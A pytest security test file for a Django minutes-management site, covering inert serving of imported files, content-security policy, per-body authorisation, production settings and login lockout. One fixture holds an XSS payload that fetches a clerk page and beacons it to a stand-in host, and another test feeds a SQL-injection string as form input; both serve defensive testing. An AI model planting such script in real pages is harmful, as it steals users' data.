"""The site against an outside attacker and a clerk of another body: files that cannot run, a strict policy,
authorisation by the body of each changed object, production defaults and a limit on wrong passwords."""

import datetime
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import RequestFactory
from django.utils import timezone

from minutebook.governance import clerking
from minutebook.governance.importing import import_file
from minutebook.governance.models import Action, Body, Organisation, SourceDocument

from ..extract.helpers import FIXTURES

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
TEMPLATES = ROOT / "minutebook"


# -- originals never run in the browser (finding 2) ---------------------------------------------------------------


def test_an_imported_web_page_is_a_download_that_cannot_run_on_the_sites_origin(client, settings, tmp_path):
    settings.MINUTEBOOK_FILES = tmp_path / "files"
    page = tmp_path / "agenda.txt"  # named .txt, but a browser would sniff it as a web page
    page.write_text(
        "<html><body><script>fetch('/clerk/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
        "</script><pre>\n" + (FIXTURES / "web_agenda.txt").read_text() + "\n</pre></body></html>\n"
    )
    import_file(page)
    document = SourceDocument.objects.get(name="agenda.txt")
    response = client.get(f"/sources/{document.pk}/original")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert b"<script>" in b"".join(response.streaming_content)  # the file as it came, but inert


def test_every_page_carries_a_policy_that_allows_no_inline_script(client):
    for url in ("/", "/search/", "/accounts/login/", "/no-such-page/"):
        policy = client.get(url)["Content-Security-Policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if " " in d.strip())
        assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'", url
        assert directives["object-src"] == "'none'" and directives["frame-ancestors"] == "'none'"
        assert "unsafe" not in policy


def test_no_template_holds_inline_script_style_or_event_handlers():
    """What the policy would block must not be there in the first place (the pack's PDF templates excepted:
    WeasyPrint reads them, no browser does)."""
    inline = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>|<style\b|\sstyle=|\son[a-z]+=|javascript:", re.I)
    templates = [p for p in TEMPLATES.rglob("*.html") if "publishing" not in p.parts]
    assert len(templates) > 10
    assert [str(p) for p in templates if inline.search(p.read_text())] == []


# -- authorisation (finding 9) ------------------------------------------------------------------------------------


@pytest.fixture
def two_bodies():
    council = Organisation.objects.create(name="Anytown City Council")
    ours = Body.objects.create(organisation=council, name="Health Scrutiny Panel", slug="ours")
    theirs = Body.objects.create(organisation=council, name="Licensing Committee", slug="theirs")
    clerk = User.objects.create_user("clerk")
    ours.clerks.add(clerk)
    at = datetime.datetime(2026, 5, 6, 18, tzinfo=timezone.get_default_timezone())
    our_meeting = clerking.create_meeting(ours, at)
    their_meeting = clerking.create_meeting(theirs, at)
    minute = clerking.write_minute(
        their_meeting, "Taxi licensing", resolutions=["The Licensing Manager to report to the next meeting."]
    )
    their_action = Action.objects.get(resolution__minute=minute)
    our_action = Action.objects.create(body=ours, description="Write to the ICB", owner_text="The Chair")
    return clerk, our_meeting, their_meeting, our_action, their_action


def test_a_clerk_cannot_close_another_bodys_action(client, two_bodies):
    clerk, our_meeting, their_meeting, our_action, their_action = two_bodies
    client.force_login(clerk)
    response = client.post(
        f"/clerk/actions/{their_action.pk}/report-back", {"meeting": our_meeting.pk, "note": "done"}
    )
    assert response.status_code == 403
    # nor close its own action at another body's meeting
    client.post(f"/clerk/actions/{our_action.pk}/report-back", {"meeting": their_meeting.pk})
    for action in (their_action, our_action):
        action.refresh_from_db()
        assert action.status == Action.Status.OPEN and action.reported_at is None
    client.post(f"/clerk/actions/{our_action.pk}/report-back", {"meeting": our_meeting.pk, "note": "Sent"})
    our_action.refresh_from_db()
    assert our_action.status == Action.Status.DONE and our_action.reported_at == our_meeting


@pytest.mark.parametrize("value", ["abc", "", "1e3", "-1", "99999999999999999999999", "1 OR 1=1"])
def test_bad_form_values_are_refused_without_a_server_error(client, two_bodies, value):
    clerk, our_meeting, _, our_action, _ = two_bodies
    client.force_login(clerk)
    client.raise_request_exception = False
    posts = [
        (f"/clerk/actions/{our_action.pk}/report-back", {"meeting": value}),
        (f"/clerk/meetings/{our_meeting.pk}/", {"form": "exempt", "exempt-item": value, "exempt-paragraph": value}),
        (f"/clerk/meetings/{our_meeting.pk}/", {"form": "minute", "minute-item": value, "minute-title": "T"}),
        (f"/clerk/meetings/{our_meeting.pk}/", {"form": "declaration", "declaration-person": value}),
        (f"/clerk/meetings/{our_meeting.pk}/", {"form": "amend", "amend-minute": value}),
        (f"/clerk/meetings/{our_meeting.pk}/", {"form": value}),
        ("/clerk/bodies/ours/", {"meeting-date": value, "meeting-time": value}),
        ("/clerk/bodies/ours/", {"plan-title": "A", "plan-date": value}),
    ]
    for url, data in posts:
        assert client.post(url, data).status_code in (200, 302, 400, 403, 404), (url, data)
    our_action.refresh_from_db()
    assert our_action.status == Action.Status.OPEN


# -- production defaults (finding 10) -----------------------------------------------------------------------------

PRODUCTION = {
    "MINUTEBOOK_SECRET_KEY": "k3Xq-a-long-random-production-key-9fT2vLw8ZpR4mN7cJ1hY6sD0gB5eQ",
    "MINUTEBOOK_ALLOWED_HOSTS": "minutes.example.org",
    "MINUTEBOOK_HTTPS": "1",
    "MINUTEBOOK_PROXY_SSL_HEADER": "X-Forwarded-Proto: https",
}


def run(args: list[str], env: dict[str, str], tmp_path) -> subprocess.CompletedProcess:
    """A minutebook process with only the given environment (not pytest's, which allows a throwaway key)."""
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("MINUTEBOOK_", "PYTEST", "DJANGO_"))}
    clean.pop("DATABASE_URL", None)
    clean |= {"MINUTEBOOK_VAR": str(tmp_path), **env}
    return subprocess.run(args, env=clean, capture_output=True, text=True, timeout=120, cwd=tmp_path)


SHOW_SETTINGS = (
    "import json, os; os.environ['DJANGO_SETTINGS_MODULE'] = 'minutebook.settings'; "
    "from django.conf import settings as s; print(json.dumps({k: getattr(s, k, None) for k in "
    "['DEBUG', 'SECURE_SSL_REDIRECT', 'SESSION_COOKIE_SECURE', 'CSRF_COOKIE_SECURE', 'SECURE_HSTS_SECONDS', "
    "'SECURE_PROXY_SSL_HEADER']}))"
)


def test_debug_is_off_unless_asked_for_and_https_settings_come_from_the_environment(tmp_path):
    default = json.loads(run([sys.executable, "-c", SHOW_SETTINGS], PRODUCTION, tmp_path).stdout)
    assert default["DEBUG"] is False
    assert default["SECURE_SSL_REDIRECT"] and default["SESSION_COOKIE_SECURE"] and default["CSRF_COOKIE_SECURE"]
    assert default["SECURE_HSTS_SECONDS"] >= 31536000
    assert default["SECURE_PROXY_SSL_HEADER"] == ["HTTP_X_FORWARDED_PROTO", "https"]
    debugging = json.loads(run([sys.executable, "-c", SHOW_SETTINGS], {"MINUTEBOOK_DEBUG": "1"}, tmp_path).stdout)
    assert debugging["DEBUG"] is True and debugging["SECURE_SSL_REDIRECT"] is False
    no_key = run([sys.executable, "-c", SHOW_SETTINGS], {}, tmp_path)
    assert no_key.returncode != 0 and "MINUTEBOOK_SECRET_KEY must be set" in no_key.stderr


def test_check_deploy_is_clean_in_the_documented_production_environment(tmp_path):
    command = [str(Path(sys.executable).parent / "minutebook"), "check", "--deploy", "--fail-level", "WARNING"]
    result = run(command, PRODUCTION, tmp_path)
    assert result.returncode == 0, result.stderr
    assert "no issues" in result.stdout
    without_https = run(command, {**PRODUCTION, "MINUTEBOOK_HTTPS": "0"}, tmp_path)
    assert without_https.returncode != 0 and "security.W008" in without_https.stderr  # the check can fail


def test_error_pages_are_the_sites_own_and_static_files_are_served_without_debug(client, settings):
    assert settings.DEBUG is False
    client.raise_request_exception = False
    missing = client.get("/meetings/999999/")
    assert missing.status_code == 404 and "Page not found" in missing.content.decode()
    from django.views.defaults import server_error

    failed = server_error(RequestFactory().get("/"))
    assert failed.status_code == 500 and "Something went wrong" in failed.content.decode()
    assert "Traceback" not in failed.content.decode() + missing.content.decode()
    response = client.get("/static/web/site.css")
    assert response.status_code == 200 and b"{" in b"".join(response.streaming_content)


@pytest.fixture
def quick_hashing(settings):
    """Each sign-in hashes a password: the fastest hasher keeps a dozen of them quick."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def test_signing_in_is_refused_after_ten_wrong_passwords_even_with_the_right_one(client, quick_hashing):
    User.objects.create_user("clerk", password="the right long password")
    for _ in range(10):
        response = client.post("/accounts/login/", {"username": "clerk", "password": "wrong guess"})
        assert "_auth_user_id" not in client.session
    response = client.post("/accounts/login/", {"username": "clerk", "password": "the right long password"})
    assert response.status_code == 429 and "_auth_user_id" not in client.session
    other = client.post("/accounts/login/", {"username": "someone", "password": "wrong guess"})
    assert other.status_code == 200  # only that name is locked from here, not the sign-in page


def test_the_right_password_signs_in_after_a_few_mistakes(client, quick_hashing):
    User.objects.create_user("clerk", password="the right long password")
    for _ in range(3):
        client.post("/accounts/login/", {"username": "clerk", "password": "wrong guess"})
    client.post("/accounts/login/", {"username": "clerk", "password": "the right long password"})
    assert "_auth_user_id" in client.session
